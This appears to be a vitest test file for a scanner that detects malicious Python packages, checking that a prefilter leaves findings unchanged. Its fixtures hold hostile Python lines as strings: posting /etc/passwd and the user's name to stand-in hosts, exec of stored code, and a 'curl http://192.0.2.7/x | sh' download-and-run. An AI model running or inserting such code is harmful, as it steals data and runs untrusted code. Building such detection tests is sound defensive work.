import { execFileSync } from "node:child_process";
import { globSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { type ArtifactSource, openArtifact } from "../../../main/archive/open-artifact.ts";
import type { Analysis } from "../../../main/model/analysis/analysis.ts";
import { defaultLimits } from "../../../main/model/limits.ts";
import { decodeText } from "../../../main/model/text/decode-text.ts";
import { loadSyntaxEngine } from "../../../main/python/engine/load-engine.ts";
import type { SyntaxEngine } from "../../../main/python/engine/syntax-engine.ts";
import { computeReach } from "../../../main/python/reach.ts";
import { readModule } from "../../../main/python/read-module.ts";
import { rules } from "../../../main/rules/registry.ts";
import { judgeModules } from "../../../main/scan/judge/run-rules.ts";
import { findLayers } from "../../../main/scan/layers/find-layers.ts";
import { makePrefilter } from "../../../main/scan/prefilter.ts";
import { makeRemembering } from "../../../main/scan/remembering-engine.ts";
import { scanContents } from "../../../main/scan/scan-contents.ts";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { scanTask } from "../../../main/scan/scan-task.ts";
import { buildZip } from "../../support/zip-builder.ts";
import { buildCase } from "../rules/specimen/build-case.ts";
import { loadCase } from "../rules/specimen/load-case.ts";

const root = fileURLToPath(new URL("../../specimens/", import.meta.url));
const cases = readdirSync(root, { withFileTypes: true })
	.filter((entry) => entry.isDirectory())
	.flatMap(({ name }) => readdirSync(path.join(root, name)).map((one) => path.join(name, one)))
	.sort();

describe("the prefilter changes nothing that is found", () => {
	type Told = Pick<Analysis, "findings" | "layers" | "verdict">;

	/** Both ways, over what is opened and parsed once: neither knows of the prefilter. */
	async function toldBothWays(source: ArtifactSource): Promise<{ readonly filtered: Told; readonly whole: Told }> {
		const opened = await openArtifact(source);
		const { artifact, members, coverage } = opened;
		const given = await scanContents(opened);
		const parser = makeRemembering(await loadSyntaxEngine());
		const told = async (prefilter: boolean): Promise<Told> => {
			const { analysis } = await scanTask(
				parser,
				{
					artifact,
					members,
					coverage,
					...given,
					skip: new Map(),
					limits: defaultLimits,
					prefilter,
					startedAt: performance.timeOrigin,
				},
				{ cancelled: () => false, reading: () => undefined, progress: () => undefined },
			);
			const { findings, layers, verdict } = analysis;
			return { findings, layers, verdict };
		};
		const both = { filtered: await told(true), whole: await told(false) };
		await opened.close();
		return both;
	}

	it.each(cases)(
		"in the specimen %s",
		async (folder) => {
			const { source } = buildCase(loadCase(path.join(root, folder)));
			const { filtered, whole } = await toldBothWays(source);
			expect(filtered).toEqual(whole);
		},
		// The specimen over the parse cap is read twice, in parts.
		150_000,
	);

	/** Packages of several files in which what matters is spread: the files without a telling word decide what is found. */
	const spread: Readonly<Record<string, Readonly<Record<string, string>>>> = {
		"a caller at import, two files away": {
			"pkg/__init__.py": "from .middle import begin\n\nbegin()\n",
			"pkg/middle.py": "from .tool import ask\n\n\ndef begin():\n    ask()\n",
			"pkg/tool.py": "import requests\n\n\ndef ask():\n    requests.get('http://192.0.2.7/x')\n",
		},
		"an address that a sibling holds": {
			"pkg/__init__.py": "",
			"pkg/settings.py": "HOST = 'https://files.example.net'\nPLACE = HOST + '/a/b'\n",
			"pkg/tool.py":
				"import requests\nfrom .settings import PLACE\n\nrequests.post(PLACE, data=open('/etc/passwd').read())\n",
		},
		"an identity that a sibling gives back": {
			"pkg/__init__.py": "",
			"pkg/who.py": "import getpass\n\n\ndef name():\n    return getpass.getuser()\n",
			"pkg/tool.py":
				"import requests\nfrom .who import name\n\nrequests.post('https://files.example.net', data={'a': name()})\n",
		},
		"an address put together with a sibling's": {
			"pkg/__init__.py": "",
			"pkg/base.py": "BASE = 'https://webhook.site'\n",
			"pkg/place.py": "from .base import BASE\n\nPLACE = f'{BASE}/0123456789'\n",
		},
		"code that a sibling keeps": {
			"pkg/__init__.py": "from .kept import TEXT\n\nexec(TEXT)\n",
			"pkg/kept.py": "TEXT = 'print(1);' 'print(2)'\n",
		},
	};

	it.each(Object.entries(spread))("in a package with %s", async (_name, files) => {
		const bytes = buildZip(Object.entries(files).map(([name, content]) => ({ name, content })));
		const source = { kind: "bytes", filename: "pkg-1.0-py3-none-any.whl", bytes, origin: "upload" } as const;
		const { filtered, whole } = await toldBothWays(source);
		expect(whole.findings.length).toBeGreaterThan(0);
		expect(filtered).toEqual(whole);
	});

	it("in a package of which most is left unread", async () => {
		const quiet = Array.from({ length: 12 }, (_, index) => ({
			name: `pkg/shapes/part${index}.py`,
			content: `def area${index}(side):\n    return side * side\n`,
		}));
		const bytes = buildZip([
			{ name: "pkg/__init__.py", content: "" },
			{ name: "pkg/tool.py", content: "import os\n\nos.system('curl http://192.0.2.7/x | sh')\n" },
			...quiet,
		]);
		const source = { kind: "bytes", filename: "pkg-1.0-py3-none-any.whl", bytes, origin: "upload" } as const;
		const read = new Set<string>();
		const pool = createScanPool({ jobs: 1, prefilter: true });
		onTestFinished(() => pool.close());
		const scanned = await pool.scan(source, {
			onProgress: ({ phase, total, detail }) => {
				// Without a total, all members are looked through.
				if (phase === "reading" && total !== undefined && detail !== undefined) read.add(detail);
			},
		});
		await scanned.close();
		expect([...read]).toEqual(["pkg/tool.py"]);
		expect(scanned.analysis.findings.length).toBeGreaterThan(0);
		expect(scanned.analysis.coverage.scanned).toBe(14);
	});
});

/** The machine's own Python sources; undefined, with the reason printed, where there are none. */
function standardLibrary(): string | undefined {
	try {
		return execFileSync("python3", ["-c", "import sysconfig; print(sysconfig.get_path('stdlib'))"], {
			encoding: "utf8",
			stdio: ["ignore", "pipe", "ignore"],
		}).trim();
	} catch (error) {
		if (error instanceof Error && "code" in error && error.code === "ENOENT") {
			console.warn("skipped: the standard library is found by asking python3, which this machine does not have");
			return undefined;
		}
		throw error;
	}
}

const SAMPLE = 250;
const folder = standardLibrary();

describe.skipIf(folder === undefined)("in a file of the standard library that is left out", () => {
	let engine: SyntaxEngine;
	beforeAll(async () => {
		engine = await loadSyntaxEngine();
	});

	it("no rule matches, and no layer is found", () => {
		const files = globSync("**/*.py", { cwd: folder ?? "" }).sort();
		const step = Math.max(1, Math.floor(files.length / SAMPLE));
		const prefilter = makePrefilter(rules);
		const overlooked: string[] = [];
		let left = 0;
		for (const file of files.filter((_, index) => index % step === 0)) {
			const { document, binary } = decodeText(readFileSync(path.join(folder ?? "", file)), "python");
			if (binary || prefilter.wants(document.text)) continue;
			left++;
			const module = readModule(engine, { path: file, role: "module", dottedName: "left.out", document });
			const reach = computeReach([module]);
			const site = { memberId: "m0", path: file, document, layers: [] };
			const { matches } = judgeModules([{ site, module }], reach, {
				artifact,
				files: [],
			});
			for (const { finding } of matches) overlooked.push(`${file}: ${finding.rule} at ${finding.span.startLine}`);
			for (const layer of findLayers(module, 1 << 20)) overlooked.push(`${file}: a layer at ${layer.range.start}`);
		}
		expect(left).toBeGreaterThan(0);
		expect(overlooked).toEqual([]);
	});
});

const artifact = {
	id: "0".repeat(64),
	kind: "folder",
	filename: "sample",
	size: 0,
	sha256: "0".repeat(64),
	origin: "disk",
} as const;
